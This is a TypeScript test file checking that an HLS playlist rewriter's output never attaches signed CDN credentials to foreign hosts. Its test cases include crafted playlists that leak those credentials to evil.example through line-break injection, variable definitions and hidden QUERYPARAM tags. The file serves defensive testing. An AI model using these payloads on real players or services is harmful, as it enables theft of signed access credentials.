import { describe, expect, it } from 'vitest';
import { OutputChecker, checkOutput } from '../../src/checker/index.js';
import type { CheckOptions } from '../../src/checker/index.js';
import { rewritePlaylistDetailed } from '../../src/rewriter/index.js';
import { ALLOW_HOSTS, CREDS, VIEWER_URL } from '../hostile/oracle.js';
import { CHECK_OPTIONS, credentialValue } from './options.js';
import { hlsJsLeak, whatwgLeak } from '../hostile/readers.js';

// The post-condition on its own: it must refuse what a broken writer produces, whatever the writer believed, and
// accept what the real rewriter writes.

const check = (text: string, options: Partial<CheckOptions> = {}) => checkOutput(text, { ...CHECK_OPTIONS, ...options })?.failure;

/** A media playlist as the origin writes it. */
const INPUT = (lines: string) => `#EXTM3U\n#EXT-X-VERSION:11\n#EXT-X-TARGETDURATION:4\n${lines}\n#EXTINF:4,\nlast.ts\n#EXT-X-ENDLIST\n`;
/** The same, as a rewriter writes it around `lines`. */
const MEDIA = (lines: string) => INPUT(lines).replace('last.ts', `last.ts?${CREDS}`);

/** A deliberately broken writer: credentials after every URI line and every URI="..." value, no host rule at all. */
function brokenWriter(text: string): string {
  return text
    .split('\n')
    .map((line) => (line.startsWith('#') ? line.replace(/URI="([^"]*)"/g, `URI="$1?${CREDS}"`) : line === '' ? line : `${line}?${CREDS}`))
    .join('\n');
}

/**
 * The five classes of the second hostile review, one more found while building the check, and one found by the
 * interstitial sessions: each as input, the failure the check names, and whether one document read by hls.js or
 * WHATWG URL shows the leak (the others need a parent playlist, a line reader that splits at CR, a steering client
 * or an interstitial asset player: test/hostile/players.test.ts).
 */
const CLASSES: Array<[string, string, string, boolean]> = [
  ['a CR inside a tag', INPUT('#EXT-X-KEY:METHOD=AES-128,X-NOTE="\rhttps://evil.example/x?",URI="key.bin"\n#EXTINF:4,\na.ts'), 'line-break', false],
  ['U+2028 inside a tag', INPUT('#EXT-X-MAP:X-NOTE="\u2028https://evil.example/x?",URI="init.mp4"\n#EXTINF:4,\na.ts'), 'line-break', false],
  // The broken writer credentials the data: manifest itself, which the check finds first.
  ['content steering from a data: manifest', '#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI="data:application/json,{}"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv1.m3u8\n', 'foreign-host', false],
  ['QUERYPARAM through a variable', INPUT('#EXT-X-DEFINE:NAME="n",VALUE="Signature"\n#EXT-X-DEFINE:QUERYPARAM="{$n}"\n#EXTINF:4,\nhttps://evil.example/{$Signature}.ts'), 'unreadable-definition', true],
  ['a reference inside NAME', INPUT('#EXT-X-DEFINE:NAME="a",VALUE="h"\n#EXT-X-DEFINE:NAME="{$a}",VALUE="//evil.example"\n#EXTINF:4,\n{$h}/a.ts'), 'unreadable-definition', true],
  ['an IMPORT after a local definition', INPUT('#EXT-X-DEFINE:NAME="h",VALUE="p"\n#EXT-X-DEFINE:IMPORT="h"\n#EXTINF:4,\n{$h}/a.ts'), 'foreign-host', false],
  ['a scheme-like prefix completed by an imported variable', INPUT('#EXT-X-DEFINE:IMPORT="x"\n#EXTINF:4,\n1a{$x}/a.ts'), 'foreign-host', false],
  // hls.js loads an X-ASSET-URI without a base URL: a relative one goes to the page's host (players.test.ts plays it).
  ['a relative X-ASSET-URI', INPUT('#EXT-X-DATERANGE:ID="ad",CLASS="com.apple.hls.interstitial",START-DATE="2026-01-01T00:00:00Z",X-ASSET-URI="ad/index.m3u8"'), 'foreign-host', false],
  // hls.js's multivariant parser finds tags mid-line: a QUERYPARAM in a comment copies the master URL's Signature.
  ['a QUERYPARAM hidden in a comment of a multivariant playlist', '#EXTM3U\n# note #EXT-X-DEFINE:QUERYPARAM="Signature"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttps://evil.example/{$Signature}/index.m3u8\n', 'unreadable-definition', true],
];

describe('the post-condition against a deliberately broken writer', () => {
  it('refuses credentials written onto a foreign host, whatever the writer thought', () => {
    expect(check(brokenWriter(MEDIA('#EXTINF:4,\nhttps://evil.example/a.ts')))).toBe('foreign-host');
    expect(check(brokenWriter(MEDIA('#EXT-X-KEY:METHOD=AES-128,URI="//evil.example/k"')))).toBe('foreign-host');
    expect(check(brokenWriter(MEDIA('#EXTINF:4,\nhttps:evil.example/a.ts')))).toBe('foreign-host');
    expect(check(brokenWriter(MEDIA('#EXTINF:4,\n\u00a0//evil.example/a.ts')))).toBe('foreign-host');
  });

  it('refuses credentials outside every URI place: a comment, a non-URI attribute, a repeated attribute, a bare secret', () => {
    expect(check(MEDIA(`# ${CREDS}`))).toBe('credential-outside-uri');
    expect(check(MEDIA(`#EXT-X-DATERANGE:ID="d",START-DATE="2026-01-01T00:00:00Z",X-NOTE="a?${CREDS}"`))).toBe('credential-outside-uri');
    expect(check(MEDIA(`#EXT-X-MAP:URI="a.mp4?${CREDS}",URI="//evil.example/b"`))).toBe('credential-outside-uri');
    expect(check(MEDIA(`#EXTINF:4,${credentialValue('Signature')}`))).toBe('credential-outside-uri');
  });

  for (const [name, input, failure] of CLASSES) {
    it(`refuses the broken writer's output for ${name} (${failure}), which the real rewriter refuses or withholds`, () => {
      expect(check(brokenWriter(input))).toBe(failure);
      const real = rewritePlaylistDetailed(input, { url: VIEWER_URL, allowHosts: [...ALLOW_HOSTS] });
      if (real.refused === undefined) expect(check(real.text)).toBeUndefined();
      else expect(real.text).toBe('');
    });
  }

  it('is right to refuse: one real reader leaks the broken writer\'s output for every class one document shows', async () => {
    for (const [name, input, , oneDocument] of CLASSES.filter((c) => c[3])) {
      const out = brokenWriter(input);
      const leak = (await hlsJsLeak(out, VIEWER_URL)) ?? whatwgLeak(out, VIEWER_URL);
      expect(leak, name).toMatch(/evil\.example|player\.example/);
      expect(oneDocument).toBe(true);
    }
  });
});

describe('the post-condition on what the rewriter writes', () => {
  it('accepts credentials on relative, root-relative, same-host and allowed-host URIs', () => {
    const text = MEDIA(`#EXT-X-MAP:URI="init.mp4?${CREDS}"\n#EXTINF:4,\n/movies/42/a.ts?${CREDS}\n#EXTINF:4,\nhttps://example.com/b.ts?x=1&${CREDS}#t=1\n#EXTINF:4,\n//priv.example.com/c.ts?${CREDS}`);
    expect(check(text)).toBeUndefined();
  });

  it('agrees with the writer on a tag whose attribute list starts with "=" (found by the property tests): no credentials, no refusal', () => {
    const text = '#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXT-X-PRELOAD-HINT:=TYPE=MAP,URI="file-init.mp4"\n#EXTINF:4,\na.ts\n';
    const out = rewritePlaylistDetailed(text, { url: VIEWER_URL });
    expect(out.refused).toBeUndefined();
    expect(out.text).toContain('URI="file-init.mp4"\n');
    expect(out.text).toContain(`a.ts?${CREDS}`);
  });

  it('agrees with the writer on a tag with whitespace at another attribute\'s "=" (found by the property tests): withheld, not refused', () => {
    const text = '#EXTM3U\n#EXT-X-MEDIA:TYPE=VIDEO,GROUP-ID= "500kbs",NAME="a",URI="a/index.m3u8"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv.m3u8\n';
    const out = rewritePlaylistDetailed(text, { url: VIEWER_URL });
    expect(out.refused).toBeUndefined();
    expect(out.withheld).toEqual({ 'loose-attribute': 1 });
    expect(out.text).toContain(`v.m3u8?${CREDS}`);
  });

  it('reads a #EXT-X-PREFETCH value with spaces or tabs around it as the writer does (found by the property tests)', () => {
    expect(check(MEDIA(`#EXT-X-PREFETCH: seg9.ts?${CREDS}`))).toBeUndefined();
    expect(check(MEDIA(`#EXT-X-PREFETCH:\t//evil.example/x.ts?${CREDS}`))).toBe('foreign-host');
  });

  it('judges in full the lines that start like the plain shapes of the fast path and are not', () => {
    // Each line below starts like a plain line and is not one: the full reading must still catch it.
    expect(check(MEDIA(`#EXTINF:4,
seg.ts?${CREDS}#frag//evil.example`))).toBeUndefined();
    expect(check(MEDIA(`#EXTINF:4,
https:evil.example/x.ts?${CREDS}`))).toBe('foreign-host');
    expect(check(MEDIA(`#EXTINF:4,
seg.ts?${CREDS}&${CREDS}`))).toBeUndefined();
    expect(check(MEDIA(`#EXTINF:4,${credentialValue('Signature')}`))).toBe('credential-outside-uri');
    expect(check(MEDIA(`#EXTINF:4,
seg${credentialValue('Policy')}.ts?${CREDS}`))).toBeUndefined();
  });

  it('accepts the compact form, and refuses its variable in a foreign URI or outside any URI', () => {
    const compact = `#EXTM3U\n#EXT-X-VERSION:8\n#EXT-X-DEFINE:NAME="cfhls",VALUE="${CREDS}"\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\na.ts?{$cfhls}\n`;
    expect(check(compact)).toBeUndefined();
    expect(check(`${compact}#EXTINF:4,\nhttps://evil.example/b.ts?{$cfhls}\n`)).toBe('foreign-host');
    expect(check(`${compact}#EXT-X-DATERANGE:ID="d",X-NOTE="{$cfhls}"\n`)).toBe('credential-outside-uri');
    expect(check(compact.replace('#EXTINF:4,\n', '#EXTINF:4,\n# {$cfhls}\n'))).toBe('credential-outside-uri');
  });

  it('refuses steering unless its hosts are named, allowed, and its manifest is on an allowed host', () => {
    const steered = (server: string) => `#EXTM3U\n#EXT-X-CONTENT-STEERING:SERVER-URI="${server}"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv1.m3u8?${CREDS}\n`;
    expect(check(steered(`steer.json?${CREDS}`))).toBe('content-steering');
    expect(check(steered(`steer.json?${CREDS}`), { steeringHosts: new Set(['priv.example.com']) })).toBeUndefined();
    expect(check(steered(`steer.json?${CREDS}`), { steeringHosts: new Set(['cdn.other.example']) })).toBe('content-steering');
    expect(check(steered('https://steer.other.example/s.json'), { steeringHosts: new Set(['priv.example.com']) })).toBe('content-steering');
    expect(check(`#EXTM3U\n# #EXT-X-CONTENT-STEERING:SERVER-URI="steer.json"\n#EXT-X-STREAM-INF:BANDWIDTH=1\nv1.m3u8?${CREDS}\n`, { steeringHosts: new Set(['priv.example.com']) })).toBe('content-steering');
  });

  it('refuses a QUERYPARAM or IMPORT of a credential param in any letter case', () => {
    for (const name of ['Signature', 'policy', 'KEY-PAIR-ID']) {
      expect(check(MEDIA(`#EXT-X-DEFINE:QUERYPARAM="${name}"`))).toBe('credential-variable');
      expect(check(MEDIA(`#EXT-X-DEFINE:IMPORT="${name}"`))).toBe('credential-variable');
    }
  });

  it('reads the output in pieces the same way as whole, and says the line it stopped at, never its text', () => {
    const text = MEDIA('#EXTINF:4,\nhttps://evil.example/a.ts');
    const out = brokenWriter(text);
    const whole = checkOutput(out, CHECK_OPTIONS);
    expect(whole).toEqual({ failure: 'foreign-host', line: 5 });
    expect(JSON.stringify(whole)).not.toContain(credentialValue('Signature'));
    const pieces = new OutputChecker(CHECK_OPTIONS);
    for (const line of out.split(/(?<=\n)/)) pieces.feed(line);
    expect(pieces.finish()).toEqual(whole);
  });
});
